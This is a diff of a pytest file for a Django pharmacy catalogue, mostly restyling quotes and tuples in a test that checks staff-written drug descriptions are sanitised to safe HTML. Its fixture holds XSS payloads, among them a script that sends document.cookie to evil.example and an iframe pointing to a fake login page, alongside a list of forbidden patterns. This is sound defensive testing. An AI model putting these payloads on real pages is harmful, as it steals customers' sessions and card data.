@@ -1,5 +1,6 @@
 """Drug information written by staff is cut down to safe HTML when saved and when shown:
 a product editor cannot put scripts, frames, forms or disguised links on customers' pages."""
+
 from __future__ import annotations
 
 import pytest
@@ -13,8 +14,8 @@ ProductAttributeValue = get_model("catalogue", "ProductAttributeValue")
 pytestmark = pytest.mark.django_db
 
 HOSTILE = (
-    '<h2>Take with food</h2><p>Swallow <strong>whole</strong>, <em>never</em> <b>chew</b> or <i>crush</i>.<br>'
-    'Ask us.</p><ul><li>Once a day</li></ul><ol><li>Morning</li></ol>'
+    "<h2>Take with food</h2><p>Swallow <strong>whole</strong>, <em>never</em> <b>chew</b> or <i>crush</i>.<br>"
+    "Ask us.</p><ul><li>Once a day</li></ul><ol><li>Morning</li></ol>"
     '<p><a href="https://www.fda.gov/drugs">FDA</a> <a href="mailto:pharmacist@example.com">write</a></p>'
     '<script>document.location="https://evil.example/?c="+document.cookie</script>'
     '<iframe src="https://evil.example/login"></iframe>'
@@ -25,8 +26,17 @@ HOSTILE = (
     '<a href="http://evil.example/pharmacy">Our pharmacy</a>'
 )
 # What the payloads would leave behind (the page itself has its own <script src> and forms).
-FORBIDDEN = ("document.cookie", "<iframe", 'src="x"', "onerror", "onclick", "javascript:", "evil.example",
-             'name="card"', "<button>Pay")
+FORBIDDEN = (
+    "document.cookie",
+    "<iframe",
+    'src="x"',
+    "onerror",
+    "onclick",
+    "javascript:",
+    "evil.example",
+    'name="card"',
+    "<button>Pay",
+)
 
 
 def _assert_safe_and_kept(html: str) -> None:
@@ -35,10 +45,18 @@ def _assert_safe_and_kept(html: str) -> None:
     if "<html" not in html:  # the stored value itself: no tag outside the allow-list at all
         for tag in ("<script", "<form", "<input", "<img", "<button"):
             assert tag not in html, tag
-    for kept in ("<h2>Take with food</h2>", "<strong>whole</strong>", "<em>never</em>", "<b>chew</b>",
-                 "<i>crush</i>", "<br>", "<li>Once a day</li>", "<ol>",
-                 '<a href="https://www.fda.gov/drugs" rel="noopener noreferrer">FDA</a>',
-                 '<a href="mailto:pharmacist@example.com" rel="noopener noreferrer">write</a>'):
+    for kept in (
+        "<h2>Take with food</h2>",
+        "<strong>whole</strong>",
+        "<em>never</em>",
+        "<b>chew</b>",
+        "<i>crush</i>",
+        "<br>",
+        "<li>Once a day</li>",
+        "<ol>",
+        '<a href="https://www.fda.gov/drugs" rel="noopener noreferrer">FDA</a>',
+        '<a href="mailto:pharmacist@example.com" rel="noopener noreferrer">write</a>',
+    ):
         assert kept in html, kept
 
 
